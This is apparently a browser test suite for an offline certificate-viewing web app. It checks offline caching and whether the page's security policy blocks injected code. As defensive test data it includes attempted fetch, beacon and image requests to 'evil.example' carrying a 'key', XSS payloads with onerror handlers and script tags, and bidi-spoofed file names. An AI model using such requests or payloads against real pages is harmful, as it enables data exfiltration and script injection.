// What the page must not be able to do, and that it needs nobody once it was open.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { choose, launch, missing, serve, txtar, paste, verdict, visit } from "./browser.mjs";

let browser;
before(async () => {
  if (!missing) browser = await launch();
});
after(() => browser?.close());

const certificate = txtar("testdata/mutated/good-service.txtar").files.get("RSA/cert.pem").toString();

test("it works without its server", { skip: missing }, async () => {
  const server = await serve();
  const { context, page, faults } = await visit(browser, server.url, { offline: true });
  try {
    await page.evaluate(() => navigator.serviceWorker.ready);
    await server.stop();
    await page.reload();
    await page.waitForSelector("main");
    await paste(page, "certificate", certificate);
    await page.waitForSelector("[data-verdict]");
    await page.locator("#language").selectOption("zh");
    await page.waitForFunction(() => document.documentElement.lang === "zh-CN");
    await page.locator(".pane-head .button").last().click(); // The example is one of its own files too.
    await page.waitForSelector('[data-code="pem-boundary-damaged"]');
    assert.deepEqual(faults, []);
    // It keeps its own files and nothing else.
    const kept = await page.evaluate(async () => {
      const names = await caches.keys();
      return (await Promise.all(names.map(async (n) => (await (await caches.open(n)).keys()).map((r) => new URL(r.url).pathname)))).flat();
    });
    assert.ok(kept.includes("/") && kept.some((k) => k.endsWith(".wasm")), `kept: ${kept}`);
    assert.ok(kept.every((k) => /^\/(assets\/[\w-]+\.(js|css|wasm)|index\.html|icon\.svg|manifest\.webmanifest)?$/.test(k)), `kept: ${kept}`);
  } finally {
    await context.close();
    await server.stop();
  }
});

test("a new version takes over when the old one is closed", { skip: missing }, async () => {
  const server = await serve();
  const { context, page } = await visit(browser, server.url, { offline: true });
  try {
    await page.evaluate(() => navigator.serviceWorker.ready);
    await page.evaluate(() => caches.open("certloupe-of-an-old-version"));
    await page.evaluate(() => caches.open("of-somebody-else"));
    // The worker of the new version is another script; this one is installed anew.
    await page.evaluate(async () => (await navigator.serviceWorker.getRegistration()).unregister());
    await page.reload();
    await page.evaluate(() => navigator.serviceWorker.ready);
    await page.waitForFunction(async () => !(await caches.keys()).includes("certloupe-of-an-old-version"));
    assert.ok((await page.evaluate(() => caches.keys())).includes("of-somebody-else"));
  } finally {
    await context.close();
    await server.stop();
  }
});

test("nothing foreign runs, and nothing is sent", { skip: missing }, async () => {
  const server = await serve();
  const { context, page } = await visit(browser, server.url);
  try {
    await paste(page, "certificate", certificate);
    await verdict(page, "accepted");
    assert.deepEqual(await page.evaluate(() => globalThis.violations), [], "the page breaks its own policy");
    // In the page's own world, as a script would that found a way in. Each attempt is refused and reported.
    const tried = await page.evaluate(async (url) => {
      const outcome = {};
      const script = document.createElement("script");
      try { script.textContent = "globalThis.inlineRan = true"; } catch { outcome.scriptText = "refused"; }
      document.body.append(script);
      try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.handlerRan = true'>"); } catch { outcome.html = "refused"; }
      try { document.createElement("div").innerHTML = "<b>x</b>"; } catch { outcome.innerHTML = "refused"; }
      try { new Worker("https://evil.example/worker.js"); } catch { outcome.worker = "refused"; }
      try { await fetch("https://evil.example/"); } catch { outcome.fetch = "refused"; }
      try { outcome.post = (await fetch(url, { method: "POST", body: "key" })).status; } catch { outcome.post = "refused"; }
      try { outcome.beacon = navigator.sendBeacon("https://evil.example/", "key") && "sent"; } catch { outcome.beacon = "refused"; }
      const form = document.createElement("form");
      form.action = url;
      form.method = "post";
      document.body.append(form);
      form.submit();
      const image = new Image();
      image.src = "https://evil.example/?key";
      const style = document.createElement("style");
      style.textContent = "body { display: none }";
      document.head.append(style);
      const frame = document.createElement("iframe");
      frame.src = url;
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 500));
      // Not before something was waited for: until then the debugger, by which this runs, may do what the page may not.
      try { (0, eval)("globalThis.evalRan = true"); } catch { outcome.eval = "refused"; }
      outcome.ran = [globalThis.inlineRan, globalThis.handlerRan, globalThis.evalRan].some(Boolean);
      outcome.hidden = getComputedStyle(document.body).display === "none";
      outcome.here = location.href;
      return outcome;
    }, server.url);
    assert.equal(tried.ran, false);
    assert.equal(tried.hidden, false);
    assert.equal(tried.here, server.url);
    for (const way of ["scriptText", "html", "innerHTML", "eval", "worker", "fetch"]) assert.equal(tried[way], "refused", way);
    assert.equal(tried.post, 405, "the server takes nothing");
    const violations = (await page.evaluate(() => globalThis.violations)).map((v) => v.split(" ")[0]);
    for (const directive of ["connect-src", "form-action", "img-src", "style-src-elem", "frame-src", "require-trusted-types-for"]) {
      assert.ok(violations.includes(directive), `no violation of ${directive} in ${violations}`);
    }
  } finally {
    await context.close();
    await server.stop();
  }
});

test("the policy stands in the page too, for servers that send none", { skip: missing }, async () => {
  const server = await serve();
  try {
    const response = await fetch(server.url);
    const sent = response.headers.get("content-security-policy").split("; ");
    const html = await response.text();
    const written = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)[1].replaceAll("&#39;", "'").split("; ");
    // Who may frame a page can be said in a header only.
    assert.deepEqual(written, sent.filter((d) => !d.startsWith("frame-ancestors")));
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)|\sstyle=|\son\w+=/);
  } finally {
    await server.stop();
  }
});

test("names that mean to deceive are seen for what they are", { skip: missing }, async () => {
  const server = await serve();
  const { context, page, faults } = await visit(browser, server.url);
  try {
    for (const name of ["30-bidi", "30-escape", "30-nul", "30-zero-width", "30-line-break", "30-host-nul"]) {
      const { files } = txtar(`testdata/mutated/${name}.txtar`);
      await paste(page, "certificate", files.get("RSA/cert.pem").toString());
      await page.waitForSelector('.results[aria-busy="false"] .certificate');
      await page.locator(".certificate summary").first().click();
      const shown = await page.locator(".results").evaluate((e) => e.textContent + [...e.querySelectorAll("[title], [aria-label]")].map((x) => x.title + x.getAttribute("aria-label")).join(""));
      // Each line break of a text is one of ours if it is between elements, so only others are looked for.
      assert.doesNotMatch(shown, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u, name);
      assert.match(shown, /\\u\{[0-9a-f]+\}/, name);
    }
    await choose(page, "certificate", "server\u202egnp.\u0007pem", Buffer.from(certificate));
    await page.waitForSelector(".file-name");
    for (const place of [".file-name", ".notice"]) {
      assert.match(await page.locator(place).first().innerText(), /server\\u\{202e\}gnp\./, place);
    }
    const hostile = certificate.replace("-----BEGIN", "<img src=x onerror=alert(1)><script>alert(2)</script>\u202egnp.exe\n-----BEGIN");
    await paste(page, "certificate", hostile);
    await page.waitForSelector('[data-code="text-around-pem"]');
    assert.equal(await page.locator("main img, main script").count(), 0);
    assert.match(await page.locator(".annotated").first().innerText(), /<img src=x onerror=alert\(1\)>.*U\+202E/);
    assert.deepEqual(faults, []);
    assert.deepEqual(await page.evaluate(() => globalThis.violations), []);
  } finally {
    await context.close();
    await server.stop();
  }
});
